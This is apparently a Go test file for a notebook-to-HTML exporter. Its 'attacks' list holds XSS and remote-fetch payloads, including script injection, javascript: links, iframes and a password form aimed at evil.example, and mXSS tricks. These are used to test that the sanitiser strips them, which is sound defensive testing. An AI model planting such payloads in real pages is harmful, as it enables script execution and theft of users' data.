package export_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/gobraid/gobraid/notebooks"
	"github.com/gobraid/gobraid/notebooks/export"
)

func markdown(source string) *notebooks.Cell {
	return &notebooks.Cell{ID: "m", Type: notebooks.Markdown, Source: source}
}

func code(source string, outputs ...*notebooks.Output) *notebooks.Cell {
	return &notebooks.Cell{ID: "c", Type: notebooks.Code, Source: source, Outputs: outputs, Count: 1}
}

func shows(forms ...string) *notebooks.Output {
	o := &notebooks.Output{Type: notebooks.DisplayOutput, Data: map[string]any{}}
	for i := 0; i < len(forms); i += 2 {
		o.Data[forms[i]] = forms[i+1]
	}
	return o
}

func prints(text string) *notebooks.Output {
	return &notebooks.Output{Type: notebooks.StreamOutput, Name: "stdout", Text: text}
}

// page exports cells as HTML.
func page(t *testing.T, opts export.Options, cells ...*notebooks.Cell) *export.Page {
	t.Helper()
	p, err := export.HTML(&notebooks.Notebook{Cells: cells}, opts)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestPage looks for what has to be in a page.
func TestPage(t *testing.T) {
	const svg = `<svg xmlns="http://www.w3.org/2000/svg"><title>Lanes</title><rect width="1" height="1"/></svg>`
	for _, test := range []struct {
		name string
		cell *notebooks.Cell
		want []string
	}{
		{"title", markdown("# A *title*"), []string{"<title>A title</title>", `<h1 id="A-title">A <em>title</em></h1>`}},
		{"contents", markdown("# T\n\n## One `x`\n\n### Two\n\n## One `x`"), []string{`<li class="level2"><a href="#One-x">One x</a></li>`, `<li class="level3"><a href="#Two">Two</a>`, `href="#One-x-2"`, `<h2 id="One-x-2">`}},
		{"table", markdown("| a | b |\n| --- | --- |\n| 1 | 2 |"), []string{"<table>", "<td>2</td>"}},
		{"task list", markdown("- [x] done"), []string{`type="checkbox"`, "checked"}},
		{"math", markdown(`with $a_1 * b_2 * c$ and \(x_y\), but $5 and $6 and ` + "`$no_math$`\n\n$$\n\\sum_i x_i < 3\n= y\n$$"),
			[]string{`<span class="math">$a_1 * b_2 * c$</span>`, `<span class="math">\(x_y\)</span>`, "$5 and $6", "<code>$no_math$</code>", "<span class=\"math display\">$$\n\\sum_i x_i &lt; 3\n= y\n$$</span>"}},
		{"fence", markdown("```go\nfunc f() {}\n```\n\n```python\ndef f(): pass\n```"), []string{`<span class="kd">func</span>`, `<span class="k">def</span>`}},
		{"code", code("%%timeline\nvar x = `a\n%d`"), []string{`<span class="magic">%%timeline`, `<span class="kd">var</span>`, `id="cell-c"`, "[1]"}},
		{"stream", code("f()", prints("a < b\n10%\r100%\n")), []string{"a &lt; b\n100%\n</pre>"}},
		{"colours", code("f()", &notebooks.Output{Type: notebooks.ErrorOutput, Traceback: []string{"\x1b[1;31mpanic\x1b[0m: \x1b[38;5;196mred\x1b[48;2;1;2;3mback\x1b[m <end>"}}),
			[]string{`<span class="b a1">panic</span>: <span style="color:#ff0000">red</span><span style="color:#ff0000;background:#010203">back</span> &lt;end&gt;`}},
		{"picture", code("f()", shows("image/svg+xml", svg, "text/plain", `3 "lanes"`)), []string{`<img src="data:image/svg+xml;base64,`, "alt=\"Lanes\n3 &#34;lanes&#34;\""}},
		{"picture in HTML", code("f()", shows("text/html", "<b>"+svg+"</b>")), []string{`<b><img src="data:image/svg+xml;base64,`, `alt="Lanes"`}},
		{"words of a picture in HTML", code("f()", shows("text/html", "<svg><title>a · b</title><desc>- 5 % {x} <tspan>no</tspan>\n- \"y\" = z</desc></svg>")), []string{"alt=\"a · b\n- 5 % {x} "}},
		{"picture without words", code("f()", shows("text/html", "<svg></svg>")), []string{`alt="picture"`}},
		{"HTML", code("f()", shows("text/html", `<table><tr><td style="text-align:left;padding-left:0.5em;opacity:.7">x</td></tr></table>`, "text/plain", "no")),
			[]string{`<td style="text-align: left; padding-left: 0.5em; opacity: .7">x</td>`}},
		{"latex", code("f()", shows("text/latex", "$x<y$", "text/plain", "no")), []string{`<span class="math display">$x&lt;y$</span>`}},
	} {
		t.Run(test.name, func(t *testing.T) {
			p := page(t, export.Options{}, test.cell)
			for _, want := range test.want {
				if !strings.Contains(string(p.Text), want) {
					t.Errorf("no %q in %s", want, body(p))
				}
			}
			if len(p.Warnings) > 0 {
				t.Error(p.Warnings)
			}
			sane(t, p)
		})
	}
}

// body is a page without its styles.
func body(p *export.Page) string {
	_, s, _ := strings.Cut(string(p.Text), "</style>")
	return s
}

// attacks are HTML, Markdown and SVG that want to run or fetch something.
var attacks = []string{
	`<script>steal()</script>`, `<img src=x onerror=steal()>`, `<a href="javascript:steal()">x</a>`, `<a href=" java&#09;script:steal()">x</a>`,
	`<iframe src="http://evil.example"></iframe>`, `<iframe srcdoc="<script>steal()</script>"></iframe>`, `<object data="http://evil.example/x"></object>`, `<embed src=http://evil.example>`,
	`<svg onload=steal()><script>steal()</script></svg>`, `<svg><foreignObject><iframe src="javascript:steal()"></iframe></foreignObject></svg>`, `<svg><a href="javascript:steal()"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=steal()></style>`, `<style>@import url(http://evil.example/x.css); body{display:none}</style>`, `<link rel=stylesheet href=http://evil.example/x.css>`,
	`<div style="background:url(http://evil.example/x)">x</div>`, `<div style="position:fixed;inset:0;z-index:99">x</div>`, `<form action=http://evil.example><input name=password><button>go</button></form>`,
	`<meta http-equiv=refresh content="0;url=http://evil.example">`, `<base href=http://evil.example/>`, `<img src="http://evil.example/track.png">`, `<img srcset="http://evil.example/track.png 2x">`,
	`<video src=http://evil.example poster=http://evil.example></video>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<img src="data:text/html,<script>steal()</script>">`,
	`</div></section></main><script>steal()</script>`, `</style><script>steal()</script>`, `<noscript><p title="</noscript><script>steal()</script>"></noscript>`, `<details ontoggle=steal() open>x</details>`,
	`<template><script>steal()</script></template>`, `<table background=http://evil.example/x><tr><td>x</table>`, `<!--><script>steal()</script>-->`, `<input type=image src=http://evil.example>`,
}

// TestSafe asserts that nothing of a notebook runs or fetches, wherever it stands.
func TestSafe(t *testing.T) {
	for _, attack := range attacks {
		for where, cell := range map[string]*notebooks.Cell{
			"HTML":          code("f()", shows("text/html", attack)),
			"Markdown":      markdown(attack),
			"inline":        markdown("x " + attack + " y"),
			"heading":       markdown("# " + attack),
			"link":          markdown("[x](" + attack + ") ![y](" + attack + ")\n\n[z]: " + attack),
			"formula":       markdown("$" + attack + "$"),
			"output":        code("f()", shows("text/markdown", attack)),
			"svg":           code("f()", shows("image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg">`+attack+`</svg>`)),
			"png":           code("f()", shows("image/png", attack)),
			"plain":         code(attack, shows("text/plain", attack), prints("\x1b[31m"+attack)),
			"latex":         code("f()", shows("text/latex", attack)),
			"alternative":   code("f()", shows("image/png", "aaaa", "text/plain", `"><script>steal()</script>`+attack)),
			"error":         code("f()", &notebooks.Output{Type: notebooks.ErrorOutput, EName: attack, Traceback: []string{attack}}),
			"raw":           {ID: "r", Type: notebooks.Raw, Source: attack, Metadata: map[string]any{"raw_mimetype": "text/html"}},
			"script output": code("f()", shows("application/javascript", attack, "text/html", attack)),
		} {
			t.Run(where+" "+attack, func(t *testing.T) { sane(t, page(t, export.Options{}, cell)) })
		}
	}
}

// sane reads a page as a browser does, and asserts that it holds nothing that runs, fetches or covers.
func sane(t *testing.T, p *export.Page) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(string(p.Text)))
	if err != nil {
		t.Fatal(err)
	}
	styles, mains := 0, 0
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "iframe", "object", "embed", "form", "button", "base", "link", "svg", "math", "video", "audio", "template", "frame", "applet":
			t.Errorf("there is a <%s> in %s", n.Data, body(p))
		case "style":
			styles++
		case "main":
			mains++
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "srcdoc", a.Key == "action", a.Key == "background":
				t.Errorf("<%s> has %s in %s", n.Data, a.Key, body(p))
			case strings.Contains(value, "javascript:") && a.Key == "href":
				t.Errorf("<%s> runs %s", n.Data, a.Val)
			case a.Key == "src" && !strings.HasPrefix(value, "data:image/"):
				t.Errorf("<%s> fetches %s", n.Data, a.Val)
			case a.Key == "href" && strings.HasPrefix(value, "data:"):
				t.Errorf("a link leads to %s", a.Val)
			case a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position")):
				t.Errorf("a style is %s", a.Val)
			}
		}
	}
	if styles != 1 || mains != 1 {
		t.Errorf("%d styles and %d mains in %s", styles, mains, body(p))
	}
	if !strings.Contains(string(p.Text), `http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;`) {
		t.Error("the page has no policy")
	}
}

// TestTrust leaves scripts where that is asked for.
func TestTrust(t *testing.T) {
	p := page(t, export.Options{Trust: true}, code("f()", shows("text/html", "<script>draw()</script>")))
	if !strings.Contains(string(p.Text), "<script>draw()</script>") || strings.Contains(string(p.Text), "Content-Security-Policy") {
		t.Error(body(p))
	}
}

// TestFiles takes pictures of Markdown cells from the notebook's folder and nowhere else.
func TestFiles(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("book/pictures/a b.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>")
	write("book/dot.png", "\x89PNG\r\n\x1a\n....")
	write("book/secret.txt", "the word")
	write("outside.png", "\x89PNG\r\n\x1a\n....")
	if err := os.Symlink("../outside.png", filepath.Join(dir, "book", "link.png")); err != nil {
		t.Fatal(err)
	}
	p := page(t, export.Options{Dir: filepath.Join(dir, "book")}, markdown(
		"![one](<pictures/a b.svg>) ![two](dot.png) ![three](../outside.png) ![four](secret.txt) ![five](link.png) ![six](https://example.com/x.png) ![seven](gone.png)"))
	for _, want := range []string{`<img src="data:image/svg+xml;base64,`, `<img src="data:image/png;base64,`, `<span>three</span>`, `<span>four</span>`, `<span>five</span>`, `<a href="https://example.com/x.png">six</a>`, "<span>seven</span>"} {
		if !strings.Contains(string(p.Text), want) {
			t.Errorf("no %q in %s", want, body(p))
		}
	}
	if len(p.Warnings) != 5 {
		t.Errorf("%d warnings: %q", len(p.Warnings), p.Warnings)
	}
	sane(t, p)
}

// TestAttachment shows a picture that a cell has with it.
func TestAttachment(t *testing.T) {
	nb, err := notebooks.Parse([]byte(`{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
		{"cell_type": "markdown", "id": "a", "metadata": {}, "source": ["![dot](attachment:dot.png)"], "attachments": {"dot.png": {"image/png": "aGVsbG8="}}}]}`))
	if err != nil {
		t.Fatal(err)
	}
	for _, form := range []func(*notebooks.Notebook, export.Options) (*export.Page, error){export.HTML, export.Markdown} {
		p, err := form(nb, export.Options{})
		if err != nil || !strings.Contains(string(p.Text), "data:image/png;base64,aGVsbG8=") || len(p.Warnings) > 0 {
			t.Errorf("%v %s", err, body(p))
		}
	}
}

// TestTags leaves out what cells are tagged for.
func TestTags(t *testing.T) {
	tagged := func(tag string) *notebooks.Cell {
		c := code("theCode()", prints("theOutput"))
		c.Metadata = map[string]any{"tags": []any{tag}}
		return c
	}
	for tag, want := range map[string][2]bool{"": {true, true}, "remove-cell": {false, false}, "remove-input": {false, true}, "remove-output": {true, false}, "hide-input": {true, true}} {
		p := page(t, export.Options{}, tagged(tag))
		got := [2]bool{strings.Contains(string(p.Text), "theCode"), strings.Contains(string(p.Text), "theOutput")}
		if got != want {
			t.Errorf("%q: input and output are shown: %v", tag, got)
		}
		if hidden := strings.Contains(body(p), "<details"); hidden != (tag == "hide-input") {
			t.Errorf("%q: hidden: %v", tag, hidden)
		}
	}
}
